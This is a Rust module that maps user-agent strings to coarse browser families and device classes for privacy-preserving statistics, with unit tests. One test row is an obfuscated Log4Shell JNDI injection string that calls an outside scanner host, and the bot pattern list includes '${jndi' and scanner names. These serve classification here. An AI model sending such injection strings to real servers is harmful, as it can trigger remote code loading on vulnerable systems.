//! User agents reduced to a coarse family and device class.
//!
//! A full user-agent string is browser identification, a fingerprinting
//! vector that BigBlueButton's privacy policy deletes with the connection
//! metadata. A family (`Firefox`, `Chrome`, `Bot`, ...) keeps what
//! statistics need. The families are deliberately coarse: no versions, no
//! operating-system versions, no device models. Command-line tools and HTTP
//! libraries are `Tool`; crawlers, monitors and scanners are `Bot`.

/// Case-insensitive substring search for an ASCII needle given in lowercase.
fn has(hay: &[u8], needle: &[u8]) -> bool {
    if hay.len() < needle.len() {
        return false;
    }
    // The first byte is searched in both cases, the rest compared by hand.
    let first = needle[0];
    let upper = first.to_ascii_uppercase();
    let mut i = 0;
    while let Some(off) = memchr::memchr2(first, upper, &hay[i..]) {
        let p = i + off;
        if p + needle.len() > hay.len() {
            return false;
        }
        if hay[p..p + needle.len()].eq_ignore_ascii_case(needle) {
            return true;
        }
        i = p + 1;
    }
    false
}

/// A coarse user-agent family: one of `Bot`, `Tool`, `MoodleMobile`, `Edge`,
/// `Opera`, `SamsungBrowser`, `Firefox`, `Chrome`, `Safari`, `IE`, `Other`.
pub fn family(ua: &[u8]) -> &'static str {
    const BOTS: &[&[u8]] = &[
        b"bot",
        b"crawl",
        b"spider",
        b"slurp",
        b"nikto",
        b"scan",
        b"monitor",
        b"+http",
        b"facebookexternalhit",
        b"${jndi",
    ];
    const TOOLS: &[&[u8]] = &[
        b"curl/",
        b"wget/",
        b"python-",
        b"python/",
        b"go-http-client",
        b"okhttp",
        b"java/",
        b"libwww",
        b"apache-httpclient",
        b"postmanruntime",
        b"php/",
        b"guzzlehttp",
    ];
    if ua.is_empty() || ua == b"-" {
        return "Other";
    }
    if has(ua, b"moodlemobile") {
        return "MoodleMobile";
    }
    if BOTS.iter().any(|n| has(ua, n)) {
        return "Bot";
    }
    if TOOLS.iter().any(|n| has(ua, n)) {
        return "Tool";
    }
    if has(ua, b"edg/") || has(ua, b"edge/") || has(ua, b"edga/") || has(ua, b"edgios/") {
        "Edge"
    } else if has(ua, b"opr/") || has(ua, b"opera") {
        "Opera"
    } else if has(ua, b"samsungbrowser") {
        "SamsungBrowser"
    } else if has(ua, b"firefox/") || has(ua, b"fxios/") {
        "Firefox"
    } else if has(ua, b"chrome/") || has(ua, b"crios/") || has(ua, b"chromium/") {
        "Chrome"
    } else if has(ua, b"trident/") || has(ua, b"msie ") {
        "IE"
    } else if has(ua, b"safari/") && has(ua, b"version/") {
        "Safari"
    } else {
        "Other"
    }
}

/// A coarse device class: `mobile`, `tablet`, `desktop`, `bot` or `unknown`.
pub fn device(ua: &[u8]) -> &'static str {
    match family(ua) {
        "Bot" => return "bot",
        "Tool" | "Other" if !has(ua, b"mozilla/") => return "unknown",
        _ => {}
    }
    if has(ua, b"ipad") || has(ua, b"tablet") || (has(ua, b"android") && !has(ua, b"mobile")) {
        "tablet"
    } else if has(ua, b"mobi")
        || has(ua, b"iphone")
        || has(ua, b"android")
        || has(ua, b"moodlemobile")
    {
        "mobile"
    } else if has(ua, b"windows") || has(ua, b"macintosh") || has(ua, b"x11") || has(ua, b"cros") {
        "desktop"
    } else {
        "unknown"
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn families_and_devices() {
        #[rustfmt::skip]
        let rows: &[(&str, &str, &str)] = &[
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0", "Firefox", "desktop"),
            ("Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "Firefox", "desktop"),
            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Chrome", "desktop"),
            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Safari", "mobile"),
            ("Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1", "Safari", "tablet"),
            ("Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15", "Safari", "desktop"),
            ("Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36", "Chrome", "mobile"),
            ("Mozilla/5.0 (Linux; Android 13; SM-X200) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", "Chrome", "tablet"),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "Edge", "desktop"),
            ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 OPR/106.0.0.0", "Opera", "desktop"),
            ("Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36", "SamsungBrowser", "mobile"),
            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", "Chrome", "mobile"),
            ("Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/132.0 Mobile/15E148 Safari/605.1.15", "Firefox", "mobile"),
            ("Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko", "IE", "desktop"),
            ("MoodleMobile 4.4.0 (44000)", "MoodleMobile", "mobile"),
            ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Bot", "bot"),
            ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Bot", "bot"),
            ("Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:Port Check)", "Bot", "bot"),
            ("${jndi:${lower:l}${lower:d}a${lower:p}://world80.log4j.bin${upper:a}ryedge.io:80/callback}", "Bot", "bot"),
            ("curl/7.68.0", "Tool", "unknown"),
            ("Wget/1.21.3", "Tool", "unknown"),
            ("python-requests/2.31.0", "Tool", "unknown"),
            ("Go-http-client/1.1", "Tool", "unknown"),
            ("Sakai Java/1.8.0_171", "Tool", "unknown"),
            ("Dalvik/2.1.0 (Linux; U; Android 10; Alba 10\\\" Build/QP1A)", "Other", "unknown"),
            ("-", "Other", "unknown"),
            ("", "Other", "unknown"),
            ("gPXE/0.9.7", "Other", "unknown"),
        ];
        for (ua, fam, dev) in rows {
            assert_eq!(family(ua.as_bytes()), *fam, "{ua}");
            assert_eq!(device(ua.as_bytes()), *dev, "{ua}");
        }
        assert_eq!(family(b"\xff\xfe Firefox/1"), "Firefox");
    }
}
